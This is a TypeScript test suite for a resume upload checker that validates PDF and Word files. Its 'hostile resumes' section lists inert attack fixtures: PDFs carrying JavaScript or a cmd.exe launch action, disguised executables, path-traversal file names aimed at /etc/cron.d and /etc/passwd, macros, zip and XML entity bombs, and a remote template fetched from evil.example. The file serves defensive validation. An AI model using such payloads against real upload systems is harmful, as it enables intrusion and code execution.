import { buildDocx, buildPdf, buildZip, contentTypesXml, documentXml } from '@/lib/testing/files'
import { checkResume, RESUME_MAX_BYTES, readResume } from './resume'

const PDF = 'application/pdf'
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const pdfClaim = { name: 'resume.pdf', type: PDF }
const docxClaim = { name: 'resume.docx', type: DOCX }
const grow = (size: number) => buildPdf({ extra: '%'.repeat(size - buildPdf().length) })

describe('good resumes', () => {
  test.each<[string, Buffer, { name?: string; type?: string }]>([
    ['a PDF', buildPdf(), pdfClaim],
    ['a PDF without a name', buildPdf(), {}],
    ['a PDF 2.0 with spaces at its end', buildPdf({ header: '%PDF-2.0', end: '%%EOF \r\n\0' }), pdfClaim],
    ['a PDF in capitals', buildPdf(), { name: 'Anitha R – Resume.PDF', type: PDF }],
    [
      'a PDF whose stream looks like a script',
      buildPdf({ extra: '3 0 obj\n<<>>\nstream\nx /JS (x) \nendstream\nendobj' }),
      pdfClaim,
    ],
    ['a PDF of exactly 1 MB', grow(RESUME_MAX_BYTES), pdfClaim],
    ['a Word document', buildDocx(), docxClaim],
    ['a Word document that the browser knows no type for', buildDocx(), { name: 'resume.docx', type: '' }],
    ['a Word document in Tamil', buildDocx(), { name: 'விண்ணப்பம்.docx', type: DOCX }],
    [
      'a Word document with a picture',
      buildDocx([{ name: 'word/media/image1.png', content: Buffer.alloc(5000, 7), stored: true }]),
      docxClaim,
    ],
    [
      'a Word document with printer settings',
      buildDocx([{ name: 'word/printerSettings/printerSettings1.bin', content: 'x' }]),
      docxClaim,
    ],
  ])('%s', async (_, bytes, claim) => {
    expect(await checkResume(bytes, claim)).toMatchObject({ bytes })
  })

  test('comes out of base64 with and without a data address', async () => {
    const base64 = buildPdf().toString('base64')
    expect(await readResume(base64, {})).toMatchObject({ type: 'pdf', fileName: 'resume.pdf' })
    expect(await readResume(`data:${PDF};base64,${base64}`, { name: 'cv.pdf' })).toMatchObject({
      fileName: 'cv.pdf',
    })
  })
})

describe('hostile resumes', () => {
  const rels = (attributes: string) => `<Relationships><Relationship ${attributes}/></Relationships>`
  test.each<[string, Buffer, { name?: string; type?: string }]>([
    ['nothing', Buffer.alloc(0), pdfClaim],
    ['a byte too many', grow(RESUME_MAX_BYTES + 1), pdfClaim],
    ['a program named PDF', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]), pdfClaim],
    ['a page named PDF', Buffer.from(`<html><script>alert(1)</script>${' '.repeat(100)}`), pdfClaim],
    [
      'an old .doc',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
      { name: 'cv.doc', type: 'application/msword' },
    ],
    ['a PDF named .doc', buildPdf(), { name: 'resume.doc', type: PDF }],
    ['a PDF named .docx', buildPdf(), { name: 'resume.docx', type: PDF }],
    ['a PDF declared as Word', buildPdf(), { name: 'resume.pdf', type: DOCX }],
    ['a PDF declared as a page', buildPdf(), { name: 'resume.pdf', type: 'text/html' }],
    ['a PDF named .pdf.exe', buildPdf(), { name: 'resume.pdf.exe', type: PDF }],
    ['a name that climbs', buildPdf(), { name: '../../etc/cron.d/x.pdf', type: PDF }],
    ['a name with a backslash', buildPdf(), { name: '..\\x.pdf', type: PDF }],
    ['a name with a line break', buildPdf(), { name: 'a\r\nb.pdf', type: PDF }],
    ['a name that turns around', buildPdf(), { name: 'resume\u202Exe.pdf', type: PDF }],
    ['a PDF without its end', buildPdf({ end: '' }), pdfClaim],
    [
      'a PDF with a file behind it',
      Buffer.concat([buildPdf(), buildZip([{ name: 'a.exe', content: 'MZ' }])]),
      pdfClaim,
    ],
    ['a PDF that does not start as one', Buffer.concat([Buffer.from('\n'), buildPdf()]), pdfClaim],
    ['a PDF with a script', buildPdf({ extra: '<< /S /JavaScript /JS (app.alert(1)) >>' }), pdfClaim],
    ['a PDF with a disguised script', buildPdf({ extra: '<< /S /J#61vaScript >>' }), pdfClaim],
    ['a PDF that starts a program', buildPdf({ extra: '<< /S /Launch /F (cmd.exe) >>' }), pdfClaim],
    ['a PDF with an attachment', buildPdf({ extra: '<< /Names << /EmbeddedFiles 4 0 R >> >>' }), pdfClaim],
    ['a PDF with a password', buildPdf({ extra: '<< /Encrypt 5 0 R >>' }), pdfClaim],
    ['a zip that is no document', buildZip([{ name: 'a.txt', content: 'x'.repeat(200) }]), docxClaim],
    [
      'a spreadsheet',
      buildZip([
        { name: '[Content_Types].xml', content: contentTypesXml },
        { name: 'xl/workbook.xml', content: '<workbook/>' },
      ]),
      docxClaim,
    ],
    ['a document without types', buildZip([{ name: 'word/document.xml', content: documentXml }]), docxClaim],
    ['an empty document part', buildDocx([{ name: 'word/document.xml', content: '' }]), docxClaim],
    ['macros', buildDocx([{ name: 'word/vbaProject.bin', content: 'x' }]), docxClaim],
    ['macros in other letters', buildDocx([{ name: 'word/VBAPROJECT.BIN', content: 'x' }]), docxClaim],
    ['macros elsewhere', buildDocx([{ name: 'custom/vbaProject.bin', content: 'x' }]), docxClaim],
    [
      'a type with macros',
      buildDocx([
        {
          name: '[Content_Types].xml',
          content: `${contentTypesXml}<!-- application/vnd.ms-word.document.macroEnabled.main+xml -->`,
        },
      ]),
      docxClaim,
    ],
    ['a control', buildDocx([{ name: 'word/activeX/activeX1.xml', content: '<x/>' }]), docxClaim],
    ['an object', buildDocx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]), docxClaim],
    ['a program inside', buildDocx([{ name: 'word/media/setup.exe', content: 'MZ' }]), docxClaim],
    ['a bomb', buildDocx([{ name: 'word/media/a.png', content: Buffer.alloc(25 * 1_048_576) }]), docxClaim],
    [
      'a bomb that claims to be small',
      buildDocx([{ name: 'word/media/a.png', content: Buffer.alloc(30 * 1_048_576), claimedSize: 100 }]),
      docxClaim,
    ],
    [
      'a part that is smaller than it claims',
      buildDocx([{ name: 'word/a.xml', content: '<a/>', claimedSize: 4000 }]),
      docxClaim,
    ],
    ['a part that climbs', buildDocx([{ name: '../evil.xml', content: '<a/>' }]), docxClaim],
    ['a part with a root path', buildDocx([{ name: '/etc/passwd', content: 'x' }]), docxClaim],
    ['a part with a backslash', buildDocx([{ name: 'word\\evil.xml', content: '<a/>' }]), docxClaim],
    [
      'a part of two names',
      buildDocx([{ name: 'word/a.xml', localName: 'word/b.exe', content: '<a/>' }]),
      docxClaim,
    ],
    [
      'a part twice',
      buildDocx([
        { name: 'word/a.xml', content: '<a/>' },
        { name: 'WORD/A.xml', content: '<b/>' },
      ]),
      docxClaim,
    ],
    ['an encrypted part', buildDocx([{ name: 'word/a.xml', content: '<a/>', flags: 1 }]), docxClaim],
    [
      'an entity bomb',
      buildDocx([{ name: 'word/document.xml', content: `<!DOCTYPE x [<!ENTITY a "b">]>${documentXml}` }]),
      docxClaim,
    ],
    [
      'a template from elsewhere',
      buildDocx([
        {
          name: 'word/_rels/settings.xml.rels',
          content: rels(
            'Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"',
          ),
        },
      ]),
      docxClaim,
    ],
    ['bytes behind the zip', Buffer.concat([buildDocx(), Buffer.from('x')]), docxClaim],
    ['bytes before the zip', Buffer.concat([Buffer.from('PX'), buildDocx()]), docxClaim],
    ['a cut zip', buildDocx().subarray(0, 200), docxClaim],
    [
      'more parts than there can be',
      buildDocx(Array.from({ length: 2001 }, (_, index) => ({ name: `word/${index}.xml` }))),
      docxClaim,
    ],
  ])('%s', async (_, bytes, claim) => {
    expect(await checkResume(bytes, claim)).toBeNull()
  })

  test.each(['', '!!!!', 'abc', `${'A'.repeat(1_400_001)}===`, 'data:application/pdf,plain', '<script>'])(
    'no base64 %#',
    async (text) => {
      expect(await readResume(text, {})).toBeNull()
    },
  )
})
